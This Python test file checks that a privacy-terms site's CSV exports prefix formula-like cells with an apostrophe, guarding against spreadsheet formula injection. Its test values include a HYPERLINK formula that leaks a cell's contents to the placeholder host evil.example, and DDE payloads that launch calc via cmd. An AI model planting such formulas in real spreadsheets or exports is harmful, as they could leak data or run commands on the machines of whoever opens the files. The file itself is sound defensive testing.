"""The open-data files stay data: a spreadsheet opening them never runs a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest

from privacy_terms.data.dataset import load_dataset
from privacy_terms.website.opendata import _csv, comparison_csv, csv_cell, events_csv, requests_csv

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(
    valid_project: Path, today: dt.date
) -> None:
    alpha = valid_project / "platforms" / "alpha.yaml"
    text = alpha.read_text(encoding="utf-8")
    text = text.replace("\nname: Alpha Chat\n", f"\nname: {FORMULA!r}\n")
    text = text.replace(
        "summary: Alpha Chat announces a pause.", 'summary: "@SUM(1+1)*cmd|/C calc!A0"'
    )
    text = text.replace(
        "speaker: An Alpha spokesperson\n        said: We are pausing",
        "speaker: +An Alpha spokesperson\n        said: We are pausing",
    )
    text = text.replace(
        "        detail: Name and sign-up date.", '        detail: "\\t-2+3 Name and sign-up date."'
    )
    alpha.write_text(text, encoding="utf-8")
    dataset = load_dataset(valid_project, today).dataset
    assert dataset is not None
    comparison, events = rows(comparison_csv(dataset)), rows(events_csv(dataset))
    assert comparison[1][1] == "'" + FORMULA
    assert "'\t-2+3 Name and sign-up date." in comparison[1]
    assert {row[2] for row in events[1:] if row[1] == "alpha"} == {"'" + FORMULA}
    summaries = [row[5] for row in events]
    assert "'@SUM(1+1)*cmd|/C calc!A0" in summaries
    assert any(s.startswith("'+An Alpha spokesperson") for s in summaries), summaries
    for table in (comparison, events):
        for row in table:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.parametrize(
    "value",
    [
        " =1+1",
        "  +cmd|' /C calc'!A0",
        '\n=HYPERLINK("https://evil.example/")',
        "\r\n-2+3",
        "\u3000@SUM(1+1)",  # an ideographic (full-width) space
        "\u00a0=1+1",  # a no-break space
        '＝HYPERLINK("https://evil.example/")',
        "＋1+1",
        "－2+3",
        "＠SUM(1+1)",
        " \n ＝1+1",
        "﹦1+1",  # the small form of =
    ],
)
def test_a_formula_behind_spaces_line_breaks_or_full_width_forms_is_still_guarded(
    value: str,
) -> None:
    assert csv_cell(value) == "'" + value
    assert rows(_csv([[value]])) == [["'" + value]]


@pytest.mark.parametrize("value", ["Alpha Chat", " Alpha", "２０２４", "a = b", "e-mail", ""])
def test_text_that_starts_no_formula_is_left_as_it_is(value: str) -> None:
    assert csv_cell(value) == value


def test_a_full_width_formula_in_the_data_reaches_the_csv_guarded(
    valid_project: Path, today: dt.date
) -> None:
    alpha = valid_project / "platforms" / "alpha.yaml"
    text = alpha.read_text(encoding="utf-8")
    text = text.replace(
        "\nname: Alpha Chat\n", '\nname: "＝HYPERLINK(\\"https://evil.example/\\")"\n'
    )
    text = text.replace(
        "summary: Alpha Chat announces a pause.", 'summary: " ＠SUM(1+1)*cmd|/C calc!A0"'
    )
    alpha.write_text(text, encoding="utf-8")
    dataset = load_dataset(valid_project, today).dataset
    assert dataset is not None
    comparison, events = rows(comparison_csv(dataset)), rows(events_csv(dataset))
    assert comparison[1][1] == '\'＝HYPERLINK("https://evil.example/")'
    assert "' ＠SUM(1+1)*cmd|/C calc!A0" in [row[5] for row in events]


def test_requests_csv_keeps_every_figure_and_says_why_a_gap_has_none(
    valid_project: Path, today: dt.date
) -> None:
    dataset = load_dataset(valid_project, today).dataset
    assert dataset is not None
    table = [row[3:10] for row in rows(requests_csv(dataset))]
    assert table == [
        ["period", "start", "end", "published", "requests", "accounts",
         "some_data_produced_percent"],
        ["H2 2020", "2020-07", "2020-12", "yes", "12", "unknown", "0"],
        ["Jan 2021 to Jun 2021", "2021-01-01", "2021-06-30", "unknown", "", "", ""],
        ["H2 2021", "2021-07", "2021-12", "yes", "5", "7", "0"],
    ]  # fmt: skip


def test_requests_csv_says_published_no_only_where_the_data_records_no_reports(
    valid_project: Path, today: dt.date
) -> None:
    alpha = valid_project / "platforms" / "alpha.yaml"
    none = (
        "transparency:\n  - form: none\n    frequency: unknown\n    since: 2021-01\n"
        "    until: 2021-06\n    sources: [alpha-privacy]\n"
    )
    alpha.write_text(
        alpha.read_text(encoding="utf-8").replace("transparency:\n", none), encoding="utf-8"
    )
    dataset = load_dataset(valid_project, today).dataset
    assert dataset is not None
    gap = [row[3:7] for row in rows(requests_csv(dataset)) if row[6] not in ("yes", "published")]
    assert gap == [["Jan 2021 to Jun 2021", "2021-01-01", "2021-06-30", "no"]]
